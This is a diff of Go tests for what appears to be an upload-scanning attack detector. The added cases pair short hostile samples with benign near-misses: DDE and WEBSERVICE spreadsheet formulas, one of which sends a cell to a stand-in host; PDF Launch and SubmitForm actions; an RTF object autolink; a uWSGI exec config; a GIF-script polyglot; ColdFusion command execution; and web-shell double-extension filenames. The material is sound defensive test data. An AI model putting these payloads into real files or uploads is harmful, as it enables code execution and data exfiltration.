@@ -48,6 +48,21 @@ func TestSigns(t *testing.T) {
 	f(&scriptTag, point.FileHead, "function handle(r) r:puts(io.popen(r.args):read('*a')) end", "function update(r) print(io.popen('ls'):read('*a')) end")
 	f(&commandCall, point.FileHead, "ngx.say(1) os.execute(ngx.var.arg_k)", "ngx.say(os.date())")
 	f(&program, point.FileName, "a.exe", "a.exes")
+	f(&readerCode, point.FileHead, `{\rtf1{\object\objautlink\objupdate{\*\objdata 01}}}`, `{\rtf1{\object\objemb{\*\objdata 01}}}`)
+	f(&readerCode, point.FileHead, "%PDF-1.4\n<</S/Launch/F(cmd.exe)>>", "%PDF-1.4\n<</S/Launch/F(a.pdf)>>")
+	f(&readerCode, point.FileHead, "[uwsgi]\nk = @(exec://id)", "[uwsgi]\nk = @(file://l)")
+	f(&readerCode, point.FileHead, "k,l\n@SUM(1+1)*cmd|'/C k'!A7", "k,l\nsum*cmd|'k'!")
+	f(&hiddenName, point.FileName, "k.asp .jpg", "k.as .jpg")
+	f(&hiddenName, point.FileName, "k.php~.png", "k.ph~.png")
+	f(&hiddenName, point.FileName, "k.php\u00a0", "k.png\u00a0")
+	f(&imageCode, point.FileHead, "GIF89a<script src=//k.example></script>", "GIF89a<x:xmpmeta>")
+	f(&readerCode, point.FileHead, "k,l\n=WEBSERVICE(\"http://k.example/\"&A1)", "k,l\n=SUM(A1)")
+	f(&readerCode, point.FileHead, `%PDF-1.4 <</S/SubmitForm/F(\\\\192.0.2.7\\k)>>`, `%PDF-1.4 <</S/SubmitForm/F(https://k.example)>>`)
+	f(&activePage, point.FileHead, `<meta http-equiv=refresh content="0;url=javascript:k()">`, `<meta charset=utf-8>`)
+	f(&commandCall, point.FileHead, `<cfscript>createObject("java","java.lang.Runtime").getRuntime()`, `<cfscript>k=1;`)
+	f(&commandCall, point.FileHead, "<?php @error_reporting(0);function k($l){return $l;}", "<?php error_reporting(E_ALL);function k($l){return $l;}")
+	f(&commandCall, point.FileHead, `<cfexecute name="k">`, `<jsp:include page="k">`)
+	f(&settings, point.FileHead, `<system.web><httpHandlers><add/>`, `<system.web><pages/>`)
 }
 
 // tar returns an archive of empty members.
@@ -84,6 +99,35 @@ func TestDestinations(t *testing.T) {
 	f("Destination", "https://cloud.example/remote.php/dav/files/k/notes.txt", 0)
 	f("Destination", "/dav/.htaccess", 0)
 	f("X-Original-URI", "/dav/k.asp;.txt", 0)
+}
+
+// TestNamed holds the names of uploads that fields tell to what must come of them.
+func TestNamed(t *testing.T) {
+	f := func(field, text string, want int) {
+		t.Helper()
+		var tree point.Tree
+		var best evidence.Tally
+		v := point.Value{Data: []byte(text), Classes: point.Classify([]byte(text)), Ref: tree.AddName(0, point.Hash, []byte(field))}
+		if GateName(&v) {
+			ScanName(&v, &tree, &best)
+		}
+		if best.Score() != want {
+			t.Errorf("%s: %s scores %d, want %d", field, text, best.Score(), want)
+		}
+	}
+	f("filename", "k.php5", 8)
+	f("fileName", "k.jpg.phtml", 8)
+	f("file_name", "k.php.jpg", 8)
+	f("saveAs", "k.jSp", 8)
+	f("filename", "k.asp;.jpg", 8)
+	f("filename", "index.php", 0)
+	f("filename", "index.php.pdf", 0)
+	f("filename", "Index.cshtml", 0)
+	f("filename", "k_test.phpt", 0)
+	f("filename", "view.blade.php", 0)
+	f("filename", "app.js", 0)
+	f("filename", "a.phone.txt", 0)
+	f("title", "k.php5", 0)
 }
 
 // TestWorstCasesEnd feeds inputs that could make a scan quadratic.
